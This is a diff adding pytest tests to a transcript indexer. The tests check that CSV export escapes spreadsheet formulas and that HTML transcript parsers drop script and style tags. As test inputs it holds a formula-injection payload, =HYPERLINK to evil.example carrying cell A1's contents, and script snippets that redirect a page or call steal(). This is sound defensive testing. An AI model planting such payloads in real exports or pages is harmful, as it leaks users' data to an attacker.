@@ -171,3 +171,47 @@ def test_export_writes_into_a_named_pipe_without_replacing_it(tmp_path):
     assert result.exit_code == 0, result.output
     assert stat.S_ISFIFO(fifo.stat().st_mode)
     assert received.startswith("id,transcript,") and "Flood warnings tonight." in received
+
+
+def test_exported_csv_cells_never_run_as_formulas_unless_asked(tmp_path):
+    import csv
+    import io
+
+    index_dir = tmp_path / "ix"
+    (tmp_path / "cues.srt").write_text(
+        '1\n00:00:01,000 --> 00:00:03,000\n=HYPERLINK("http://evil.example/?x="&A1,"click") flood\n\n'
+        "2\n00:00:10,000 --> 00:00:12,000\n@SUM(1+1) flood again\n"
+    )
+    runner = CliRunner()
+    assert runner.invoke(app, ["index", str(tmp_path / "cues.srt"), "--index", str(index_dir), "-q"]).exit_code == 0
+    safe = list(
+        csv.DictReader(
+            io.StringIO(
+                runner.invoke(app, ["export", "flood", "-f", "csv", "--sort", "time", "--index", str(index_dir)]).output
+            )
+        )
+    )
+    assert [row["text"] for row in safe] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click") flood',
+        "'@SUM(1+1) flood again",
+    ]
+    assert [row["start"] for row in safe] == ["1.0", "10.0"]  # numbers stay numbers
+    raw = runner.invoke(
+        app, ["export", "flood", "-f", "csv", "--sort", "time", "--csv-formulas", "--index", str(index_dir)]
+    ).output
+    assert [row["text"] for row in csv.DictReader(io.StringIO(raw))][1] == "@SUM(1+1) flood again"
+
+
+def test_scripts_and_styles_in_html_transcripts_are_not_speech():
+    from indexer.transcripts.formats import archive, podcast
+
+    page = (
+        "<cite>Ann:</cite><time>0:00</time><p>Flood <script>document.location='http://evil'</script>warning"
+        "<style>p{display:none}</style> tonight.</p>"
+    )
+    assert [t.text for t in podcast.parse_html(page).turns] == ["Flood warning tonight."]
+    snippets = (
+        '<a href="/details/x/start/0/end/60">x</a><div class="snipin">crews worked <script>steal()</script>'
+        "all night<style>.a{}</style></div>"
+    )
+    assert [t.text for t in archive.parse(snippets).turns] == ["crews worked all night"]
